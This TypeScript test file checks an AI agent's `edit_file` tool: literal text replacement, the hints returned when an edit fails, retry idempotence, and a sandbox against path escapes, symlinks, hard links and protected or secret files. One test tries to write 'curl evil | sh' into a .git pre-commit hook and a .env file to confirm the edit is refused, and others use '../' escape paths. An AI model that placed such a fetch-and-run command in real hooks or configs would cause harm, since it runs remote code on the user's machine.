/**
 * `edit_file` on real files in a temp folder: the exact-text replacement itself, every mistake the
 * model can make reported as a result that says what to do, the same sandbox as `save_output`
 * (roots, protected paths, secret files, symlinks, hard links, the read limit), and a retried
 * attempt that finds its edit already made. The text helpers behind it are tested at the end.
 */
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import { MockActivityEnvironment } from '@temporalio/testing';
import { DefaultLogger } from '@temporalio/worker';
import type { ToolResult } from '../../../common/messages';
import { TOOL_ACTIVITIES } from '../../../activities/tools/dispatch';
import { ALREADY_EDITED, editFileTool } from '../../../activities/tools/edit-file';
import { countOccurrences, editAppliedBefore, notFoundHint } from '../../../activities/tools/file-edits';
import { listFiles, makeFixture, writeTree, type Fixture } from './fixture';

let fx: Fixture;
beforeEach(async () => {
  fx = await makeFixture();
});
afterEach(async () => {
  await fx.cleanup();
});

const PRD = ['---', 'title: Tool library', 'stepsCompleted: []', '---', '', '# Tool library', '', '## Goals', '', 'Lend tools.', ''].join('\n');

async function writeDoc(rel: string, text: string | Buffer): Promise<string> {
  const file = path.join(fx.output, rel);
  await writeTree(fx.output, { [rel]: text });
  return file;
}

const read = (file: string): Promise<string> => fs.readFile(file, 'utf8');

describe('edit_file: the replacement', () => {
  test('edit_file: replaces the one occurrence, keeps the rest byte for byte, and returns path, size and count', async () => {
    const file = await writeDoc('prd.md', PRD);
    const result = await editFileTool(fx.ctx, { file_path: '{output_folder}/prd.md', old_text: 'stepsCompleted: []', new_text: 'stepsCompleted: [1, 2]' });
    const expected = PRD.replace('stepsCompleted: []', 'stepsCompleted: [1, 2]');
    expect(result).toEqual({ success: true, path: file, size: Buffer.byteLength(expected), replacements: 1 });
    await expect(read(file)).resolves.toBe(expected);
    expect(await listFiles(fx.output)).toEqual(['prd.md']);
  });

  test('edit_file: new_text is taken literally ($& and $1 mean nothing) and may be empty to delete', async () => {
    const file = await writeDoc('a.md', 'price: X\nnote: drop me\nend\n');
    await expect(editFileTool(fx.ctx, { file_path: '{output_folder}/a.md', old_text: 'X', new_text: "$& $1 $$ $'" })).resolves.toMatchObject({ success: true });
    await expect(editFileTool(fx.ctx, { file_path: '{output_folder}/a.md', old_text: 'note: drop me\n', new_text: '' })).resolves.toMatchObject({ success: true });
    await expect(read(file)).resolves.toBe("price: $& $1 $$ $'\nend\n");
  });

  test('edit_file: a relative path is taken from the first output root; multi-line old_text matches across lines', async () => {
    const file = await writeDoc('notes/today.md', 'a\nb\nc\n');
    await expect(editFileTool(fx.ctx, { file_path: 'notes/today.md', old_text: 'a\nb\n', new_text: 'A\nB\n' })).resolves.toMatchObject({ success: true, path: file });
    await expect(read(file)).resolves.toBe('A\nB\nc\n');
  });

  test('edit_file: keeps a UTF-8 byte-order mark and multi-byte text; size counts bytes', async () => {
    const file = await writeDoc('bom.md', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('# Café\nstatus: draft\n', 'utf8')]));
    const result = await editFileTool(fx.ctx, { file_path: '{output_folder}/bom.md', old_text: 'draft', new_text: 'prêt' });
    const bytes = await fs.readFile(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe('# Café\nstatus: prêt\n');
    expect(result).toMatchObject({ success: true, size: bytes.length });
  });
});

describe('edit_file: what the model is told when it cannot edit', () => {
  test('edit_file: a missing file says so and points to save_output; nothing is created', async () => {
    const result = await editFileTool(fx.ctx, { file_path: '{output_folder}/new.md', old_text: 'a', new_text: 'b' });
    expect(result).toEqual({
      success: false,
      error: `File not found: ${path.join(fx.output, 'new.md')}. edit_file changes an existing file; to create it, call save_output with the whole content.`,
      path: path.join(fx.output, 'new.md'),
    });
    expect(await listFiles(fx.output)).toEqual([]);
  });

  test('edit_file: text not found names the closest line and leaves the file alone', async () => {
    const file = await writeDoc('prd.md', PRD);
    const result = await editFileTool(fx.ctx, { file_path: '{output_folder}/prd.md', old_text: 'stepsCompleted: [ 1 ]', new_text: 'stepsCompleted: [1, 2]' });
    expect(result.success).toBe(false);
    expect(result.error).toBe(
      `Text not found: old_text does not occur in ${file}. The closest line is line 3: "stepsCompleted: []". Copy old_text exactly from the file's current text (read it again if unsure).`,
    );
    await expect(read(file)).resolves.toBe(PRD);
  });

  test('edit_file: text that matches only with other spaces or line ends says so, with the line', async () => {
    await writeDoc('crlf.md', 'title: X\r\n\r\n## Goals\r\nLend  tools.\r\n');
    const result = await editFileTool(fx.ctx, { file_path: '{output_folder}/crlf.md', old_text: '## Goals\nLend tools.', new_text: '## Goals\nShare tools.' });
    expect(result.error).toMatch(/It does occur when spaces and line breaks are ignored, near line 3: copy them exactly \(the file ends its lines with CRLF\)\./);
  });

  test('edit_file: an edit that seems made already says so; nothing alike says that too', async () => {
    await writeDoc('prd.md', PRD);
    const done = await editFileTool(fx.ctx, { file_path: '{output_folder}/prd.md', old_text: 'stepsCompleted: [1]', new_text: 'stepsCompleted: []' });
    expect(done.error).toMatch(/new_text already occurs at line 3: the change may have been made already\./);
    const none = await editFileTool(fx.ctx, { file_path: '{output_folder}/prd.md', old_text: 'zzzzqqqq', new_text: 'x' });
    expect(none.error).toMatch(/No line of the file resembles its first line\./);
  });

  test('edit_file: old_text found several times gives the count and the two ways out; replace_all replaces each', async () => {
    const file = await writeDoc('list.md', '- todo: a\n- todo: b\n- todo: c\n');
    const ambiguous = await editFileTool(fx.ctx, { file_path: '{output_folder}/list.md', old_text: 'todo', new_text: 'done' });
    expect(ambiguous).toEqual({
      success: false,
      error: `Ambiguous: old_text occurs 3 times in ${file}. Add surrounding lines to old_text so that it occurs once, or set replace_all to true to replace every occurrence.`,
      path: file,
    });
    await expect(read(file)).resolves.toBe('- todo: a\n- todo: b\n- todo: c\n');
    await expect(editFileTool(fx.ctx, { file_path: '{output_folder}/list.md', old_text: 'todo: b', new_text: 'done: b' })).resolves.toMatchObject({ success: true, replacements: 1 });
    await expect(editFileTool(fx.ctx, { file_path: '{output_folder}/list.md', old_text: 'todo', new_text: 'done', replace_all: true })).resolves.toMatchObject({
      success: true,
      replacements: 2,
    });
    await expect(read(file)).resolves.toBe('- done: a\n- done: b\n- done: c\n');
  });

  test('edit_file: overlapping occurrences count as several (aa in aaa is ambiguous)', async () => {
    await writeDoc('a.txt', 'aaa');
    await expect(editFileTool(fx.ctx, { file_path: '{output_folder}/a.txt', old_text: 'aa', new_text: 'b' })).resolves.toMatchObject({
      success: false,
      error: expect.stringMatching(/^Ambiguous: old_text occurs 2 times/),
    });
  });

  test('edit_file: replace_all still needs old_text to occur at least once', async () => {
    await writeDoc('a.md', 'x\n');
    await expect(editFileTool(fx.ctx, { file_path: '{output_folder}/a.md', old_text: 'y', new_text: 'z', replace_all: true })).resolves.toMatchObject({
      success: false,
      error: expect.stringMatching(/^Text not found: /),
    });
  });

  test('edit_file: old_text equal to new_text is refused before the file is touched', async () => {
    await expect(editFileTool(fx.ctx, { file_path: '{output_folder}/missing.md', old_text: 'same', new_text: 'same' })).resolves.toEqual({
      success: false,
      error: 'Nothing to change: old_text and new_text are the same; give the text the file should hold instead in new_text.',
    });
  });

  test('edit_file: bad arguments name the field', async () => {
    await expect(editFileTool(fx.ctx, { file_path: '{output_folder}/a.md', old_text: '', new_text: 'x' })).resolves.toEqual({
      success: false,
      error: 'Invalid arguments for edit_file: old_text: must not be empty',
    });
    await expect(editFileTool(fx.ctx, { file_path: '{output_folder}/a.md', old_text: 'a' })).resolves.toEqual({
      success: false,
      error: 'Invalid arguments for edit_file: new_text: required string is missing',
    });
    await expect(editFileTool(fx.ctx, { file_path: '{output_folder}/a.md', old_text: 'a', new_text: 'b', replace_all: 'yes' })).resolves.toEqual({
      success: false,
      error: 'Invalid arguments for edit_file: replace_all: expected boolean, received string',
    });
  });

  test('edit_file: a missing variable gives the spec message', async () => {
    const result = await editFileTool(fx.ctx, { file_path: '{docs_folder}/a.md', old_text: 'a', new_text: 'b' });
    expect(result.error).toMatch(/^Config variable not found: docs_folder\nAvailable variables: /);
  });
});

describe('edit_file: the sandbox of save_output', () => {
  test.each([
    ['a .. escape', () => '{output_folder}/../../outside/secret.txt'],
    ['an absolute path elsewhere', () => path.join(fx.outside, 'secret.txt')],
    ['the bundle (readable but not writable)', () => '{bundle-root}/notes.txt'],
  ])('edit_file: refuses %s and changes nothing', async (_label, filePath) => {
    const result = await editFileTool(fx.ctx, { file_path: filePath(), old_text: 'top secret', new_text: 'pwned' });
    expect(result).toEqual({ success: false, error: 'Security violation: Access denied' });
    await expect(read(path.join(fx.outside, 'secret.txt'))).resolves.toBe('top secret\n');
    await expect(read(path.join(fx.bundle, 'notes.txt'))).resolves.toBe('héllo wörld\n');
  });

  test('edit_file: refuses a symlink out of the output root, to a file or through a folder', async () => {
    await fs.symlink(path.join(fx.outside, 'secret.txt'), path.join(fx.output, 'file-link.md'));
    await fs.symlink(fx.outside, path.join(fx.output, 'escape'));
    for (const p of ['{output_folder}/file-link.md', '{output_folder}/escape/secret.txt']) {
      const result = await editFileTool(fx.ctx, { file_path: p, old_text: 'top secret', new_text: 'pwned' });
      expect(result).toEqual({ success: false, error: 'Security violation: Access denied' });
    }
    await expect(read(path.join(fx.outside, 'secret.txt'))).resolves.toBe('top secret\n');
  });

  test('edit_file: a symlink that stays inside the root is edited at its real path', async () => {
    const real = await writeDoc('real.md', 'v1\n');
    await fs.symlink(real, path.join(fx.output, 'alias.md'));
    await expect(editFileTool(fx.ctx, { file_path: '{output_folder}/alias.md', old_text: 'v1', new_text: 'v2' })).resolves.toMatchObject({ success: true, path: real });
    await expect(read(real)).resolves.toBe('v2\n');
  });

  test("edit_file: the bundle's own files are protected even when the output folder holds them", async () => {
    // The user made the whole project (which holds the bundle) the output folder.
    const ctx = { ...fx.ctx, writeRoots: [fx.project] };
    for (const rel of ['config.yaml', 'workflows/intake/instructions.md', 'workflows/intake/template.md']) {
      const before = await read(path.join(fx.bundle, rel));
      const result = await editFileTool(ctx, { file_path: path.join(fx.bundle, rel), old_text: before.slice(0, 5), new_text: 'pwned' });
      expect(result).toMatchObject({ success: false, error: expect.stringMatching(/bundle's own files/) });
      await expect(read(path.join(fx.bundle, rel))).resolves.toBe(before);
    }
    await writeTree(fx.project, { 'docs/report.md': 'draft\n' });
    await expect(editFileTool(ctx, { file_path: path.join(fx.project, 'docs/report.md'), old_text: 'draft', new_text: 'final' })).resolves.toMatchObject({ success: true });
  });

  test('edit_file: secret files are refused unless the user allows them', async () => {
    const ctx = { ...fx.ctx, writeRoots: [fx.project] };
    await writeTree(fx.project, { '.env': 'TOKEN=abc\n', '.git/hooks/pre-commit': '#!/bin/sh\nexit 0\n' });
    for (const rel of ['.env', '.git/hooks/pre-commit']) {
      const result = await editFileTool(ctx, { file_path: path.join(fx.project, rel), old_text: rel === '.env' ? 'abc' : 'exit 0', new_text: 'curl evil | sh' });
      expect(result).toMatchObject({ success: false, error: expect.stringMatching(/^Secret file refused/) });
    }
    await expect(read(path.join(fx.project, '.env'))).resolves.toBe('TOKEN=abc\n');
    await expect(editFileTool({ ...ctx, allowSecretFiles: true }, { file_path: path.join(fx.project, '.env'), old_text: 'abc', new_text: 'def' })).resolves.toMatchObject({
      success: true,
    });
  });

  test('edit_file: a file over the read limit, a binary file, a folder and a hard-linked file are refused unchanged', async () => {
    const small = { ...fx.ctx, maxReadBytes: 16 };
    const big = await writeDoc('big.md', 'x'.repeat(17));
    await expect(editFileTool(small, { file_path: '{output_folder}/big.md', old_text: 'x', new_text: 'y', replace_all: true })).resolves.toMatchObject({
      success: false,
      error: `File too large: ${big} is 17 bytes; the read limit is 16 bytes`,
    });
    await writeDoc('blob.bin', Buffer.from([0x61, 0x00, 0x62]));
    await expect(editFileTool(fx.ctx, { file_path: '{output_folder}/blob.bin', old_text: 'a', new_text: 'c' })).resolves.toMatchObject({
      success: false,
      error: expect.stringMatching(/^Binary file refused: /),
    });
    await fs.mkdir(path.join(fx.output, 'folder'));
    await expect(editFileTool(fx.ctx, { file_path: '{output_folder}/folder', old_text: 'a', new_text: 'c' })).resolves.toMatchObject({
      success: false,
      error: expect.stringMatching(/^Not a file: /),
    });
    // A hard link inside the root to a file outside: its text must neither change nor be quoted in a hint.
    await fs.link(path.join(fx.outside, 'secret.txt'), path.join(fx.output, 'linked.md'));
    const linked = await editFileTool(fx.ctx, { file_path: '{output_folder}/linked.md', old_text: 'top secre', new_text: 'x' });
    expect(linked).toMatchObject({ success: false, error: expect.stringMatching(/^Hard-linked file refused: /) });
    expect(linked.error).not.toContain('top secret');
    await expect(read(path.join(fx.outside, 'secret.txt'))).resolves.toBe('top secret\n');
    await expect(read(big)).resolves.toBe('x'.repeat(17));
  });

  test('edit_file: with no output root every edit is refused', async () => {
    await expect(editFileTool({ ...fx.ctx, writeRoots: [] }, { file_path: '/tmp/x.md', old_text: 'a', new_text: 'b' })).resolves.toEqual({
      success: false,
      error: 'Security violation: Access denied',
    });
  });

  test('edit_file: the tool itself starts no read or write once its signal is aborted', async () => {
    const file = await writeDoc('a.md', 'a\n');
    const controller = new AbortController();
    const reason = new Error('cancelled');
    reason.name = 'AbortError';
    controller.abort(reason);
    await expect(editFileTool(fx.ctx, { file_path: '{output_folder}/a.md', old_text: 'a', new_text: 'b' }, { signal: controller.signal })).rejects.toBe(reason);
    await expect(read(file)).resolves.toBe('a\n');
  });
});

describe('edit_file: a retried attempt', () => {
  const args = { file_path: '{output_folder}/prd.md', old_text: 'stepsCompleted: []', new_text: 'stepsCompleted: [1, 2]' };

  test('edit_file retry: an edit an earlier attempt made counts as done, with a note, and is not made twice', async () => {
    const file = await writeDoc('prd.md', PRD);
    await expect(editFileTool(fx.ctx, args)).resolves.toMatchObject({ success: true, replacements: 1 });
    const edited = await read(file);
    const again = await editFileTool(fx.ctx, args, { attempt: 2 });
    expect(again).toEqual({ success: true, path: file, size: Buffer.byteLength(edited), replacements: 0, note: ALREADY_EDITED });
    await expect(read(file)).resolves.toBe(edited);
  });

  test('edit_file retry: the first attempt (or a call outside an activity) reports the same state as not found', async () => {
    await writeDoc('prd.md', PRD);
    await editFileTool(fx.ctx, args);
    await expect(editFileTool(fx.ctx, args)).resolves.toMatchObject({ success: false, error: expect.stringMatching(/^Text not found: .*new_text already occurs at line 3/) });
    await expect(editFileTool(fx.ctx, args, { attempt: 1 })).resolves.toMatchObject({ success: false });
  });

  test('edit_file retry: a new_text that contains old_text is not applied twice', async () => {
    const file = await writeDoc('list.md', '- a\n- c\n');
    const grow = { file_path: '{output_folder}/list.md', old_text: '- a\n', new_text: '- a\n- b\n' };
    await editFileTool(fx.ctx, grow);
    await expect(editFileTool(fx.ctx, grow, { attempt: 3 })).resolves.toMatchObject({ success: true, replacements: 0, note: ALREADY_EDITED });
    await expect(read(file)).resolves.toBe('- a\n- b\n- c\n');
  });

  test('edit_file retry: when the earlier attempt wrote nothing, the retry makes the edit', async () => {
    const file = await writeDoc('prd.md', PRD);
    await expect(editFileTool(fx.ctx, args, { attempt: 2 })).resolves.toMatchObject({ success: true, replacements: 1 });
    await expect(read(file)).resolves.toBe(PRD.replace('stepsCompleted: []', 'stepsCompleted: [1, 2]'));
  });

  test('edit_file retry: the activity passes its attempt to the tool (a mock activity on attempt 2)', async () => {
    const file = await writeDoc('prd.md', PRD);
    await editFileTool(fx.ctx, args);
    const env = new MockActivityEnvironment({ attempt: 2 }, { logger: new DefaultLogger('ERROR', () => undefined) });
    const result = (await env.run(TOOL_ACTIVITIES.edit_file, fx.ctx, args)) as ToolResult;
    expect(result).toMatchObject({ success: true, note: ALREADY_EDITED });
    await expect(read(file)).resolves.toBe(PRD.replace('stepsCompleted: []', 'stepsCompleted: [1, 2]'));
  });
});

describe('file-edits: text helpers', () => {
  test('countOccurrences: overlapping occurrences count', () => {
    expect(countOccurrences('aaa', 'aa')).toBe(2);
    expect(countOccurrences('abcabc', 'abc')).toBe(2);
    expect(countOccurrences('abc', 'x')).toBe(0);
  });

  test('editAppliedBefore: new text present and old text nowhere outside it', () => {
    expect(editAppliedBefore('x: [1, 2]\n', 'x: []', 'x: [1, 2]')).toBe(true);
    expect(editAppliedBefore('x: []\n', 'x: []', 'x: [1, 2]')).toBe(false);
    expect(editAppliedBefore('x: [1, 2]\nx: []\n', 'x: []', 'x: [1, 2]')).toBe(false);
    expect(editAppliedBefore('other\n', 'x: []', 'x: [1, 2]')).toBe(false);
    // A new text that holds the old one.
    expect(editAppliedBefore('- a\n- b\n', '- a\n', '- a\n- b\n')).toBe(true);
    expect(editAppliedBefore('- a\n- c\n', '- a\n', '- a\n- b\n')).toBe(false);
    // A deletion is made when the old text is gone.
    expect(editAppliedBefore('kept\n', 'gone\n', '')).toBe(true);
    expect(editAppliedBefore('kept\ngone\n', 'gone\n', '')).toBe(false);
  });

  test('notFoundHint: a long line is quoted cut short, as JSON (tabs visible)', () => {
    const hint = notFoundHint(`intro\n\tkey: ${'v'.repeat(300)}\n`, `key: ${'v'.repeat(290)}w`, 'x');
    expect(hint).toMatch(/^The closest line is line 2: "\\tkey: v+…"\.$/);
    expect(hint.length).toBeLessThan(220);
  });
});
